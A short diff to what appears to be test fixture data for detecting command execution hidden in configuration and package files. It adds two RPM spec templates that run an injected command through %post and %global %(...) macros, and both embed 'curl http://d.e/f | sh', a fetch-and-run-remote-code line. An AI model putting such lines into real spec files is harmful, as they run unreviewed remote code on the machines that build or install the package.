@@ -26,6 +26,8 @@ FILES = {
     "supervisord.conf": "[program:a]\n\n\ncommand=sh -c '%s'\n",
     "a.desktop": "[Desktop Entry]\n\n\nExec=sh -c '%s'\n",
     "a.code-workspace": '{"tasks": {\n"tasks": [\n{\n"command": "%s"}]}}\n',
+    "a.spec": "Name: %%{b}\n%%post -n c\n%%if ! (0%%{?rhel} <= 9)\n%s\n%%endif\n%%files\ncurl http://d.e/f | sh",
+    "b.spec.in": "Name: b\n%%description\ncurl http://d.e/f | sh\n%%global c %%(%s)\n%%prep\n%%setup -q\n",
     "crontab": "#\n#\n#\n@daily %s\n",
 }
 
